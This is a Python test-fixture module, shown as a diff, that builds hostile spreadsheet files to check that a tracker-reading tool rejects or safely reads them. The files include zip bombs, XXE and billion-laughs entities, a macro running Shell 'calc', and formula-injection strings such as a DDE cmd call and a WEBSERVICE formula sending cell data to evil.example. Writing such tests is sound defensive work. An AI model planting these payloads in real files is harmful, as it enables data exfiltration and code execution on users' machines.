@@ -1,0 +1,761 @@
+"""A corpus of hostile and broken tracker files, each built here into a folder: nothing downloaded.
+
+`CASES` maps a case id to how to build it and what the tool must answer: `refused`
+cases must exit 2 with one error line containing the words given; `read` cases must be
+read (exit 0 or 1, findings allowed). Workbooks are written raw (zip + XML) where the
+point is XML an ordinary writer would never produce, with openpyxl otherwise.
+"""
+
+from __future__ import annotations
+
+import re
+import struct
+import warnings
+import zipfile
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, field
+from datetime import date, datetime, time, timedelta
+from pathlib import Path
+from xml.sax.saxutils import escape, quoteattr
+
+import openpyxl
+
+HEADER = [
+    "Ref",
+    "KLOE",
+    "Planned action",
+    "Original due",
+    "Revised due",
+    "Lead",
+    "Success measure",
+    "Progress update",
+    "RAG",
+]
+ROW = ["W1a", "W1", "Leadership coaching", date(2019, 3, 31), None, "RG", "75 enrolled",
+       "On track", "A/G"]  # fmt: skip
+LEGEND = [
+    ["Code", "Meaning", "Colour", "Complete"],
+    ["G", "Action completed and improvement achieved", "00B050", "Yes"],
+    ["A/G", "Clear plan for delivery but not yet completed", "FFC000", "No"],
+    ["A/R", "We either lack a plan or confidence in that plan", "FF7C80", "No"],
+]
+LEADS = [["Initials", "Name", "Role", "Email"], ["RG", "R Green", "CEO", ""]]
+
+# Text a lead might type that a spreadsheet would run: formulas, DDE, a link out.
+INJECTIONS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/x","click me")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    '=cmd|" /C calc"!A0',
+    '=WEBSERVICE("http://evil.example/"&A1)',
+]
+
+# --- Writers --------------------------------------------------------------------------
+
+NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
+WORKSHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+
+
+class Raw(str):
+    """A cell given as its XML (``<c r="A1" t="e"><v>#REF!</v></c>``), written as is."""
+
+
+def column_letter(index: int) -> str:
+    letters = ""
+    index += 1
+    while index:
+        index, rem = divmod(index - 1, 26)
+        letters = chr(65 + rem) + letters
+    return letters
+
+
+def cell_xml(ref: str, value: object) -> str:
+    if isinstance(value, Raw):
+        return value.replace("{ref}", ref)
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
+    if isinstance(value, int | float):
+        return f'<c r="{ref}"><v>{value}</v></c>'
+    if isinstance(value, date):
+        serial = (value - date(1899, 12, 30)).days
+        return f'<c r="{ref}" s="1"><v>{serial}</v></c>'
+    text = escape(str(value))
+    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
+
+
+def sheet_data(rows: Sequence[Sequence[object]]) -> str:
+    out = []
+    for r, row in enumerate(rows, start=1):
+        cells = "".join(cell_xml(f"{column_letter(c)}{r}", v) for c, v in enumerate(row))
+        out.append(f'<row r="{r}">{cells}</row>')
+    return f"<sheetData>{''.join(out)}</sheetData>"
+
+
+@dataclass
+class RawSheet:
+    name: str
+    rows: Sequence[Sequence[object]] = ()
+    xml: str | None = None  # the whole worksheet part, instead of rows
+    state: str | None = None  # "hidden" / "veryHidden"
+    prolog: str = ""  # between the XML declaration and <worksheet> (a DOCTYPE)
+
+
+def raw_xlsx(
+    path: Path,
+    sheets: Sequence[RawSheet],
+    *,
+    shared_strings: str | bytes | None = None,
+    extra_parts: dict[str, bytes] | None = None,
+    extra_types: str = "",
+    duplicate: tuple[str, bytes] | None = None,
+) -> Path:
+    """A minimal .xlsx written by hand: every byte of every part is the test's choice."""
+    overrides = [
+        (
+            "/xl/workbook.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+        ),
+        (
+            "/xl/styles.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
+        ),
+    ]
+    rels = []
+    entries = []
+    for index, sheet in enumerate(sheets, start=1):
+        part = f"xl/worksheets/sheet{index}.xml"
+        overrides.append((f"/{part}", WORKSHEET_CT))
+        rels.append((f"rId{index}", f"{REL_NS}/worksheet", f"worksheets/sheet{index}.xml"))
+        state = f' state="{sheet.state}"' if sheet.state else ""
+        entries.append(
+            f'<sheet name={quoteattr(sheet.name)} sheetId="{index}"{state} r:id="rId{index}"/>'
+        )
+    rels.append(("rIdS", f"{REL_NS}/styles", "styles.xml"))
+    if shared_strings is not None:
+        overrides.append(
+            (
+                "/xl/sharedStrings.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
+            )
+        )
+        rels.append(("rIdSS", f"{REL_NS}/sharedStrings", "sharedStrings.xml"))
+    types = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
+    parts: dict[str, bytes | str] = {
+        "[Content_Types].xml": (
+            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CT_NS}">'
+            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'  # noqa: E501
+            '<Default Extension="xml" ContentType="application/xml"/>'
+            f"{types}{extra_types}</Types>"
+        ),
+        "_rels/.rels": (
+            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
+            f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
+            "</Relationships>"
+        ),
+        "xl/workbook.xml": (
+            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS}" xmlns:r="{REL_NS}">'
+            f"<sheets>{''.join(entries)}</sheets></workbook>"
+        ),
+        "xl/_rels/workbook.xml.rels": (
+            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
+            + "".join(f'<Relationship Id="{i}" Type="{t}" Target="{g}"/>' for i, t, g in rels)
+            + "</Relationships>"
+        ),
+        # Style 1 shows a serial number as a date, as Excel's built-in format 14 does.
+        "xl/styles.xml": (
+            f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{NS}">'
+            '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
+            '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
+            '<borders count="1"><border/></borders>'
+            '<cellStyleXfs count="1"><xf/></cellStyleXfs>'
+            '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'  # noqa: E501
+            "</styleSheet>"
+        ),
+    }
+    for index, sheet in enumerate(sheets, start=1):
+        parts[f"xl/worksheets/sheet{index}.xml"] = sheet.xml or (
+            f'<?xml version="1.0" encoding="UTF-8"?>{sheet.prolog}<worksheet xmlns="{NS}" '
+            f'xmlns:r="{REL_NS}">{sheet_data(sheet.rows)}</worksheet>'
+        )
+    if shared_strings is not None:
+        parts["xl/sharedStrings.xml"] = shared_strings
+    parts.update(extra_parts or {})
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+        if duplicate is not None:
+            with warnings.catch_warnings():
+                warnings.simplefilter("ignore")  # the duplicate is the point
+                archive.writestr(zipfile.ZipInfo(duplicate[0]), duplicate[1])
+    return path
+
+
+def tracker_rows(*rows: Sequence[object]) -> list[list[object]]:
+    return [list(HEADER), *[list(r) for r in rows]]
+
+
+def openpyxl_tracker(
+    path: Path,
+    rows: Sequence[Sequence[object]],
+    *,
+    title: str = "Actions",
+    registers: bool = True,
+    text_only: bool = False,
+    edit: Callable[[openpyxl.Workbook], None] | None = None,
+) -> Path:
+    """A trust's tracker written with openpyxl; strings stay strings (never formulas)."""
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = title
+    for r, row in enumerate(rows, start=1):
+        for c, value in enumerate(row, start=1):
+            if value is None:
+                continue
+            cell = sheet.cell(r, c, value)
+            if isinstance(value, str):
+                cell.data_type = "s"
+    if registers:
+        for name, table in (("Legend", LEGEND), ("Leads", LEADS)):
+            other = book.create_sheet(name)
+            for row in table:
+                other.append(row)
+    if edit is not None:
+        edit(book)
+    book.save(path)
+    return path
+
+
+def cfb(streams: dict[str, bytes]) -> bytes:
+    """A minimal OLE compound file (CFB v3, 512-byte sectors) holding these streams.
+
+    Enough for any reader to list its streams (olefile does): a header, one FAT sector,
+    one directory sector (root + up to three streams) and the streams in regular
+    sectors (each padded to the 4096-byte mini-stream cutoff, so no mini stream).
+    """
+    assert len(streams) <= 3
+    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
+    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
+    data = b""
+    placed = []
+    for name, content in streams.items():
+        content = content.ljust(4096, b"\0")
+        content += b"\0" * (-len(content) % 512)
+        start = len(fat)
+        count = len(content) // 512
+        fat += [start + i + 1 for i in range(count - 1)] + [end]
+        placed.append((name, start, len(content)))
+        data += content
+    assert len(fat) <= 128
+    fat += [free] * (128 - len(fat))
+
+    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
+        encoded = (name.encode("utf-16-le") + b"\0\0").ljust(64, b"\0")
+        return (
+            encoded
+            + struct.pack("<HBB", len(name) * 2 + 2, kind, 1)
+            + struct.pack("<III", no_stream, right, child)
+            + b"\0" * 16  # CLSID
+            + b"\0" * 4  # state bits
+            + b"\0" * 16  # created, modified
+            + struct.pack("<IQ", start, size)
+        )
+
+    directory = entry("Root Entry", 5, 1 if placed else no_stream, no_stream, end, 0)
+    for index, (name, start, size) in enumerate(placed, start=1):
+        right = index + 1 if index < len(placed) else no_stream
+        directory += entry(name, 2, no_stream, right, start, size)
+    directory = directory.ljust(512, b"\0")
+    for offset in range(128 * (len(placed) + 1), 512, 128):  # unused entries: no siblings
+        directory = (
+            directory[: offset + 68]
+            + struct.pack("<III", no_stream, no_stream, no_stream)
+            + directory[offset + 80 :]
+        )
+    header = (
+        bytes.fromhex("D0CF11E0A1B11AE1")
+        + b"\0" * 16
+        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+        + b"\0" * 6
+        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
+        + struct.pack("<I", 0)
+        + struct.pack("<108I", *([free] * 108))
+    )
+    assert len(header) == 512
+    return header + struct.pack("<128I", *fat) + directory + data
+
+
+# --- The cases --------------------------------------------------------------------------
+
+BILLION_LAUGHS = (
+    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
+    ).replace("&lol0;", "&lol;")
+    + "]>"
+)
+EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+
+
+def _sst(strings: Sequence[str], prolog: str = "", entity: str = "") -> str:
+    items = "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
+    if entity:
+        items += f"<si><t>{entity}</t></si>"
+    count = len(strings) + bool(entity)
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst xmlns="{NS}" count="{count}" '
+        f'uniqueCount="{count}">{items}</sst>'
+    )
+
+
+def _shared_string_tracker(path: Path, prolog: str, entity: str) -> Path:
+    """Every text cell a shared string; the last one the entity (as calamine's facts case)."""
+    strings = [*HEADER, "W1a", "W1", "Leadership coaching", "RG", "75 enrolled", "A/G"]
+    index = {s: i for i, s in enumerate(strings)}
+    header = [Raw(f'<c r="{{ref}}" t="s"><v>{index[h]}</v></c>') for h in HEADER]
+    row = [Raw(f'<c r="{{ref}}" t="s"><v>{index[v]}</v></c>') if v in index else v for v in ROW]
+    row[7] = Raw(f'<c r="{{ref}}" t="s"><v>{len(strings)}</v></c>')  # the progress update
+    return raw_xlsx(
+        path,
+        [RawSheet("Actions", [header, row])],
+        shared_strings=_sst(strings, prolog, entity),
+    )
+
+
+def _entity_sheet(path: Path, prolog: str, entity: str) -> Path:
+    row = list(ROW)
+    row[7] = Raw(f'<c r="{{ref}}" t="inlineStr"><is><t>{entity}</t></is></c>')
+    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row), prolog=prolog)])
+
+
+def _utf16_shared_strings(path: Path) -> Path:
+    text = _sst(HEADER, EXTERNAL_ENTITY, "&xxe;").replace('encoding="UTF-8"', 'encoding="UTF-16"')
+    header = [Raw(f'<c r="{{ref}}" t="s"><v>{i}</v></c>') for i in range(len(HEADER))]
+    return raw_xlsx(
+        path,
+        [RawSheet("Actions", [header, ROW])],
+        shared_strings=b"\xff\xfe" + text.encode("utf-16-le"),
+    )
+
+
+def _valid(path: Path) -> Path:
+    return openpyxl_tracker(path, tracker_rows(ROW))
+
+
+def _truncated(path: Path) -> Path:
+    whole = _valid(path).read_bytes()
+    path.write_bytes(whole[: len(whole) // 2])
+    return path
+
+
+def _corrupt_entry(path: Path) -> Path:
+    """A sheet entry whose deflate stream is damaged in the middle (the end record is fine)."""
+    _valid(path)
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as archive:
+        info = archive.getinfo("xl/worksheets/sheet1.xml")
+    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    for offset in range(start + 10, start + min(info.compress_size - 4, 60)):
+        data[offset] ^= 0x5A
+    path.write_bytes(bytes(data))
+    return path
+
+
+def _padded_sheet(path: Path) -> Path:
+    """50 MB of blank space in a sheet packs into ~50 KB: a ratio near 1000."""
+    padding = " " * (50 * 1024 * 1024)
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">{padding}'
+        f"{sheet_data(tracker_rows(ROW))}</worksheet>"
+    )
+    return raw_xlsx(path, [RawSheet("Actions", xml=xml)])
+
+
+def _many_entries(path: Path) -> Path:
+    parts = {f"customXml/item{i}.bin": b"" for i in range(10_001)}
+    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(ROW))], extra_parts=parts)
+
+
+def _bulky(path: Path) -> Path:
+    """2.5 MB of distinct text unpacked: over a 1 MB limit set in the environment."""
+    rows = [[f"W1{i}", "W1", f"Action {i} " + "x" * 200 + str(i), date(2019, 3, 31), None, "RG",
+             "m", f"progress {i} " + "y" * 200, "A/G"] for i in range(5000)]  # fmt: skip
+    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(*rows))])
+
+
+def _far_cell(path: Path) -> Path:
+    """One cell at XFD1048576: calamine would reserve 17 billion cells and abort."""
+    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">'
+        + sheet_data(tracker_rows(ROW)).replace("</sheetData>", far)
+        + "</worksheet>"
+    )
+    return raw_xlsx(path, [RawSheet("Actions", xml=xml)])
+
+
+def _wide_cell(path: Path) -> Path:
+    """Rows to 2,000 and a cell in column XFD: 32 million cells to hold in memory."""
+    rows = tracker_rows(ROW)
+    rows[1] = [*ROW, *([None] * (16383 - len(ROW))), "far right"]
+    rows += [[None]] * 1997 + [["end"]]
+    return raw_xlsx(path, [RawSheet("Actions", rows)])
+
+
+def _lying_shared_strings(path: Path) -> Path:
+    path = _shared_string_tracker(path, "", "")
+    with zipfile.ZipFile(path) as archive:
+        parts = {n: archive.read(n) for n in archive.namelist()}
+    parts["xl/sharedStrings.xml"] = re.sub(
+        rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', parts["xl/sharedStrings.xml"]
+    )
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return path
+
+
+def _duplicate_entry(path: Path) -> Path:
+    decoy = f'<?xml version="1.0"?><worksheet xmlns="{NS}"><sheetData/></worksheet>'.encode()
+    return raw_xlsx(
+        path,
+        [RawSheet("Actions", tracker_rows(ROW))],
+        duplicate=("xl/worksheets/sheet1.xml", decoy),
+    )
+
+
+def _bad_shared_string_index(path: Path) -> Path:
+    row = list(ROW)
+    row[7] = Raw('<c r="{ref}" t="s"><v>99</v></c>')
+    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row))], shared_strings=_sst(["a"]))
+
+
+def _malformed_xml(path: Path) -> Path:
+    xml = f'<?xml version="1.0"?><worksheet xmlns="{NS}"><sheetData><row r="1"><c r="A1"'
+    return raw_xlsx(path, [RawSheet("Actions", xml=xml)])
+
+
+def _encrypted(path: Path) -> Path:
+    """What Excel writes for "Encrypt with Password": an OLE file, not a zip."""
+    streams = {
+        "EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40),  # agile encryption, v4.4
+        "EncryptedPackage": b"\x00" * 64,
+        "\x06DataSpaces": b"",
+    }
+    path.write_bytes(cfb(streams))
+    return path
+
+
+def _legacy_xls(path: Path) -> Path:
+    """An Excel 97-2003 file: an OLE file whose Workbook stream starts with a BOF record."""
+    path.write_bytes(cfb({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00"}))
+    return path
+
+
+def _csv(path: Path) -> Path:
+    path.write_text(
+        "Ref,Planned action,Lead,RAG,Progress update\nW1a,Coaching,RG,A/G,On track\n",
+        encoding="utf-8",
+    )
+    return path
+
+
+def _html(path: Path) -> Path:
+    path.write_text(
+        "<html><body><table><tr><td>Ref</td><td>Planned action</td></tr></table></body></html>",
+        encoding="utf-8",
+    )
+    return path
+
+
+def _not_a_zip(path: Path) -> Path:
+    path.write_bytes(bytes(range(256)) * 16)
+    return path
+
+
+def _empty_file(path: Path) -> Path:
+    path.write_bytes(b"")
+    return path
+
+
+def _docx(path: Path) -> Path:
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("[Content_Types].xml", f'<Types xmlns="{CT_NS}"/>')
+        archive.writestr("word/document.xml", "<w:document/>")
+    return path
+
+
+def _plain_zip(path: Path) -> Path:
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("notes.txt", "Ref, action\n")
+    return path
+
+
+def _xlsm(path: Path) -> Path:
+    """An .xlsm with a VBA project part: read for its data; the macro is never run."""
+    vba = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\nEnd Sub\r\n'
+    return raw_xlsx(
+        path,
+        [RawSheet("Actions", tracker_rows(ROW))],
+        extra_parts={"xl/vbaProject.bin": cfb({"VBA": vba})},
+        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+    )
+
+
+def _empty_workbook(path: Path) -> Path:
+    book = openpyxl.Workbook()
+    book.save(path)
+    return path
+
+
+def _no_tracker_sheet(path: Path) -> Path:
+    return openpyxl_tracker(path, [["Budget", "2019/20"], ["Pay", 100], ["Non-pay", 50]])
+
+
+def _misspelt_headers(path: Path) -> Path:
+    header = ["Refrence", "KLEO", "Plannned actoin", "Orignal due", "Leed", "Progess", "RGA"]
+    return openpyxl_tracker(
+        path, [header, ["W1a", "W1", "Coaching", "March 2019", "RG", "ok", "G"]]
+    )
+
+
+def _duplicated_headers(path: Path) -> Path:
+    header = [*HEADER, "RAG", "Lead"]
+    return openpyxl_tracker(path, [header, [*ROW, "G", "TL"]])
+
+
+def _missing_headers(path: Path) -> Path:
+    keep = [0, 2, 3, 7]  # Ref, Planned action, Original due, Progress: no lead, no RAG
+    return openpyxl_tracker(path, [[HEADER[i] for i in keep], [ROW[i] for i in keep]])
+
+
+def _merged_rows(path: Path) -> Path:
+    def merge(book: openpyxl.Workbook) -> None:
+        book["Actions"].merge_cells("F2:F4")  # one lead typed across three actions
+        book["Actions"].merge_cells("H3:H4")
+
+    rows = tracker_rows(
+        ROW,
+        ["W1b", "W1", "Appraisals", "June 2019", None, None, "m", "Done", "G"],
+        ["W1c", "W1", "Board away day", "July 2019", None, None, "m", None, "A/R"],
+    )
+    return openpyxl_tracker(path, rows, edit=merge)
+
+
+def _formula_errors(path: Path) -> Path:
+    row = list(ROW)
+    row[5] = Raw('<c r="{ref}" t="e"><f>VLOOKUP(X1,Leads!A:A,1,0)</f><v>#N/A</v></c>')
+    row[7] = Raw('<c r="{ref}" t="e"><f>#REF!</f><v>#REF!</v></c>')
+    row[8] = Raw('<c r="{ref}" t="e"><v>#DIV/0!</v></c>')
+    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row))])
+
+
+def _formulas_uncached(path: Path) -> Path:
+    row = list(ROW)
+    row[3] = Raw('<c r="{ref}"><f>DATE(2019,3,31)</f></c>')
+    row[7] = Raw('<c r="{ref}" t="str"><f>"On track: "&amp;A2</f></c>')
+    row[8] = Raw('<c r="{ref}"><f>IF(1,"G","R")</f></c>')
+    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row))])
+
+
+def _types_swapped(path: Path) -> Path:
+    rows = tracker_rows(
+        [42, True, 3.5, "not a date", "31/13/2019", date(2019, 1, 1), 12, False, 1],
+        [date(2019, 5, 1), "W1", datetime(2019, 5, 1, 9, 30), time(9, 30), timedelta(days=3),
+         123.456, date(2019, 1, 1), 1e308, True],
+        ["W1c", "W1", "x", -1, 1e20, "RG", "m", -0.0, "G"],
+        ["W1d", "W1", "x", 2958466, -693594, "RG", "m", 0.1, "G"],
+    )  # fmt: skip
+    return openpyxl_tracker(path, rows)
+
+
+def _many_rows(path: Path) -> Path:
+    """100,000 actions, written with XlsxWriter (openpyxl would take ~30 s)."""
+    import xlsxwriter
+
+    book = xlsxwriter.Workbook(str(path), {"constant_memory": True, "strings_to_formulas": False})
+    sheet = book.add_worksheet("Actions")
+    dated = book.add_format({"num_format": "dd/mm/yyyy"})
+    sheet.write_row(0, 0, HEADER)
+    due = datetime(2019, 3, 31)
+    for i in range(1, 100_001):
+        sheet.write_row(i, 0, [f"W1a{i}", "W1", f"Action {i}"])
+        sheet.write_datetime(i, 3, due, dated)
+        sheet.write_row(i, 5, ["RG", "measure", f"Progress on {i}", "A/G"])
+    book.close()
+    return path
+
+
+def _huge_cells(path: Path) -> Path:
+    row = list(ROW)
+    row[2] = "A" * 32_767
+    row[7] = ("Progress is slow. " * 2000)[:32_767]
+    row[6] = "€" * 32_767
+    return openpyxl_tracker(path, tracker_rows(row))
+
+
+def _odd_characters(path: Path) -> Path:
+    rows = tracker_rows(
+        ["W1a", "W1", "Control \x01\x02\x07\x1b[31m characters \x0b\x0c", date(2019, 3, 31), None,
+         "RG", "m", "bell\x07 and NUL-like \x00 gone", "A/G"],
+        ["W1b", "W1", "\u202eReversed: \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
+         date(2019, 3, 31), None, "RG", "\u200f\u200e", "Emoji 🚑🏥👩‍⚕️ and 𝒮𝓊𝓇𝓇ℴℊ𝒶𝓉ℯ𝓈", "A/G"],
+        ["W1c", "W1", "Escaped lone surrogate _xD800_ and _x0000_", date(2019, 3, 31), None, "RG",
+         "m", "\ufeff\ufffe zero-width\u200b", "G"],
+    )  # fmt: skip
+    # XML 1.0 cannot hold most control characters: Excel stores them as _xHHHH_ escapes.
+    for row in rows:
+        for i, value in enumerate(row):
+            if isinstance(value, str):
+                row[i] = Raw(cell_xml("{ref}", _excel_escape(value)))
+    return raw_xlsx(path, [RawSheet("Actions", rows)])
+
+
+def _excel_escape(text: str) -> str:
+    return "".join(
+        f"_x{ord(ch):04X}_" if (ord(ch) < 0x20 and ch not in "\t\n\r") else ch for ch in text
+    )
+
+
+def _hidden(path: Path) -> Path:
+    """A hidden Progress column, a hidden overdue row, a hidden and a very hidden sheet."""
+    rows = tracker_rows(
+        ROW, ["W1b", "W1", "Hidden action", date(2019, 1, 31), None, "RG", "m", "x", "A/R"]
+    )
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">'
+        '<cols><col min="8" max="8" width="0" hidden="1" customWidth="1"/></cols>'
+        + sheet_data(rows).replace('<row r="3">', '<row r="3" hidden="1">')
+        + "</worksheet>"
+    )
+    sheet = RawSheet("Actions", xml=xml)
+    hidden = RawSheet(
+        "Secret",
+        tracker_rows(["W9z", "W1", "Hidden sheet", date(2019, 1, 1), None, "ZZ", "m", "p", "A/R"]),
+        state="hidden",
+    )
+    very = RawSheet("VeryHidden", [["Code", "Meaning"], ["G", "Done"]], state="veryHidden")
+    return raw_xlsx(path, [sheet, hidden, very])
+
+
+def _injections(path: Path) -> Path:
+    rows = [list(HEADER)]
+    for i, text in enumerate(INJECTIONS, start=1):
+        rows.append(
+            [f"W1{chr(96 + i)}", "W1", text, date(2019, 3, 31), None, "RG", text, text, "A/G"]
+        )
+    rows.append(
+        [
+            INJECTIONS[0],
+            "W2",
+            "Ref is a formula",
+            date(2019, 3, 31),
+            None,
+            INJECTIONS[4],
+            "m",
+            "p",
+            INJECTIONS[1],
+        ]
+    )
+    return openpyxl_tracker(path, rows)
+
+
+def _path_sheet_name(path: Path) -> Path:
+    return raw_xlsx(
+        path,
+        [
+            RawSheet("../x", tracker_rows(ROW)),
+            RawSheet("..\\..\\evil", [["Code", "Meaning"], ["G", "Done"]]),
+            RawSheet("/etc/passwd", [["note"]]),
+        ],
+    )
+
+
+@dataclass(frozen=True)
+class Case:
+    """One hostile input: how to build it and what the tool must answer."""
+
+    build: Callable[[Path], Path]
+    expect: str  # "refused": exit 2, one line; "read": exit 0 or 1
+    words: tuple[str, ...] = ()  # all must appear in the error line (case-insensitive)
+    suffix: str = ".xlsx"
+    env: dict[str, str] = field(default_factory=dict)
+    big: bool = False  # slow to process: validate and build only
+
+
+CASES: dict[str, Case] = {
+    "not-a-zip": Case(_not_a_zip, "refused", ("does not start like",)),
+    "empty-file": Case(_empty_file, "refused", ("empty",)),
+    "truncated-zip": Case(_truncated, "refused", ("truncated",)),
+    "corrupt-zip-entry": Case(_corrupt_entry, "refused", ("damaged",)),
+    "zip-bomb-ratio": Case(_padded_sheet, "refused", ("WELLLED_XL_MAX_RATIO", "zip bomb")),
+    "zip-too-many-entries": Case(_many_entries, "refused", ("WELLLED_XL_MAX_ENTRIES",)),
+    "unpacked-over-limit": Case(
+        _bulky,
+        "refused",
+        ("WELLLED_XL_MAX_UNCOMPRESSED_MB", "unpacks to"),
+        env={"WELLLED_XL_MAX_UNCOMPRESSED_MB": "1"},
+    ),
+    "cell-beyond-row-limit": Case(_far_cell, "refused", ("WELLLED_XL_MAX_ROWS", "Actions")),
+    "used-range-too-wide": Case(_wide_cell, "refused", ("WELLLED_XL_MAX_CELLS", "Actions")),
+    "shared-strings-count-lies": Case(_lying_shared_strings, "refused", ("sharedStrings",)),
+    "duplicate-zip-entry": Case(_duplicate_entry, "refused", ("two entries",)),
+    "entity-expansion-in-sheet": Case(
+        lambda p: _entity_sheet(p, BILLION_LAUGHS, "&lol9;"), "refused", ("DOCTYPE", "Actions")
+    ),
+    "external-entity-in-sheet": Case(
+        lambda p: _entity_sheet(p, EXTERNAL_ENTITY, "&xxe;"), "refused", ("DOCTYPE", "Actions")
+    ),
+    "entity-expansion-in-shared-strings": Case(
+        lambda p: _shared_string_tracker(p, BILLION_LAUGHS, "&lol9;"),
+        "refused",
+        ("DOCTYPE", "sharedStrings"),
+    ),
+    "external-entity-in-shared-strings": Case(
+        lambda p: _shared_string_tracker(p, EXTERNAL_ENTITY, "&xxe;"),
+        "refused",
+        ("DOCTYPE", "sharedStrings"),
+    ),
+    "utf16-shared-strings-with-doctype": Case(
+        _utf16_shared_strings, "refused", ("DOCTYPE", "sharedStrings")
+    ),
+    "encrypted-workbook": Case(_encrypted, "refused", ("password-protected",)),
+    "legacy-xls": Case(_legacy_xls, "refused", ("97-2003",), suffix=".xls"),
+    "legacy-xls-renamed-xlsx": Case(_legacy_xls, "refused", ("97-2003",)),
+    "csv-renamed-xlsx": Case(_csv, "refused", ("CSV",)),
+    "html-renamed-xlsx": Case(_html, "refused", ("HTML",)),
+    "word-document-renamed": Case(_docx, "refused", ("Word",)),
+    "zip-without-workbook": Case(_plain_zip, "refused", ("no xl/workbook.xml",)),
+    "bad-shared-string-index": Case(_bad_shared_string_index, "refused", ()),
+    "malformed-sheet-xml": Case(_malformed_xml, "refused", ()),
+    "xlsm-with-macros": Case(_xlsm, "read", suffix=".xlsm"),
+    "empty-workbook": Case(_empty_workbook, "refused", ("no sheet has a tracker header",)),
+    "no-tracker-sheet": Case(_no_tracker_sheet, "refused", ("no sheet has a tracker header",)),
+    "headers-misspelt": Case(_misspelt_headers, "refused", ("no sheet has a tracker header",)),
+    "headers-duplicated": Case(_duplicated_headers, "read"),
+    "headers-missing": Case(_missing_headers, "read"),
+    "merged-cells-across-rows": Case(_merged_rows, "read"),
+    "formula-error-values": Case(_formula_errors, "read"),
+    "formulas-without-cached-values": Case(_formulas_uncached, "read"),
+    "types-swapped": Case(_types_swapped, "read"),
+    "cells-32767-characters": Case(_huge_cells, "read"),
+    "control-rtl-emoji": Case(_odd_characters, "read"),
+    "hidden-rows-columns-sheets": Case(_hidden, "read"),
+    "formula-injection-text": Case(_injections, "read"),
+    "sheet-named-like-a-path": Case(_path_sheet_name, "read"),
+    "rows-100000": Case(_many_rows, "read", big=True),
+}
+
+
+def build_case(case_id: str, folder: Path) -> Path:
+    """Build one case into `folder`; return the file to give the tool."""
+    case = CASES[case_id]
+    folder.mkdir(parents=True, exist_ok=True)
+    return case.build(folder / f"{case_id}{case.suffix}")
